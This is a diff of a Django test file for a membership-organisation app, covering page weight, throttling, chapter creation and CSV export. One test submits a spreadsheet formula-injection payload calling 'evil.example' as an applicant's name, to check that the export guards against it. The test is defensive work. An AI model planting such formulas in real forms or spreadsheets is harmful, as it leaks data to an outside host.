@@ -4,14 +4,13 @@ from __future__ import annotations
 
 import csv
 import datetime
-import gzip
 import io
 import re
-from pathlib import Path
 
 import pytest
 from django.conf import settings
 from django.core import mail
+from django.core.cache import cache
 from django.urls import reverse
 from django.utils import timezone
 
@@ -20,8 +19,15 @@ from alyansa.accounts.permissions import has_role
 from alyansa.accounts.roles import Role
 from alyansa.accounts.testing import make_user
 from alyansa.audit.models import AuditEvent
-from alyansa.members.models import Application, MembershipStatus, Organization
-from alyansa.members.services import organization_update
+from alyansa.members import throttle
+from alyansa.members.models import Application, Chapter, MembershipStatus, Organization
+from alyansa.members.services import (
+    Profile,
+    application_confirm,
+    application_submit,
+    membership_admit,
+    organization_update,
+)
 from alyansa.members.testing import (
     make_country,
     make_language,
@@ -29,11 +35,10 @@ from alyansa.members.testing import (
     make_person,
     make_sector,
 )
+from bench.phone_weight import page_weight
 from conftest import client_for
 
 pytestmark = pytest.mark.django_db
-
-CSS = (Path(settings.BASE_DIR) / "static/css/site.css").read_text()
 
 
 @pytest.fixture
@@ -73,8 +78,9 @@ def test_directory_and_organization_page_are_small_on_the_wire():
         reverse("members:directory"),
         reverse("members:organization", args=[Organization.objects.first().slug]),
     ):
-        html = client.get(url).content
-        assert len(gzip.compress(html + CSS.encode())) < 30_000, url
+        weight = page_weight(client.get(url).content)  # with what the page loads
+        assert "site.css" in weight.assets, url
+        assert weight.total < 30_000, f"{url}: {weight.describe()}"
 
 
 def test_organization_page_query_count_is_bounded(django_assert_max_num_queries):
@@ -284,10 +290,6 @@ def test_pages_have_no_inline_script_or_style(coordinator):
 
 
 def test_a_flood_of_applications_from_one_network_is_held_off():
-    from django.core.cache import cache
-
-    from alyansa.members import throttle
-
     cache.clear()
     client = client_for(None)
     for number in range(throttle.APPLICATIONS_PER_HOUR):
@@ -300,8 +302,6 @@ def test_a_flood_of_applications_from_one_network_is_held_off():
 
 
 def test_the_secretariat_forms_a_chapter_that_can_then_issue_in_its_own_name(secretariat):
-    from alyansa.members.models import Chapter
-
     a, b = make_organization("Member A"), make_organization("Member B")
     response = client_for(secretariat).post(
         reverse("members:chapter_new"),
@@ -415,13 +415,6 @@ def test_a_coordinator_neither_sees_nor_changes_who_coordinates(coordinator):
 
 
 def test_statistics_csv_guards_names_from_public_applications(secretariat):
-    from alyansa.members.services import (
-        Profile,
-        application_confirm,
-        application_submit,
-        membership_admit,
-    )
-
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     application, secret = application_submit(
         profile=Profile(name=formula, country=make_country("PH")),
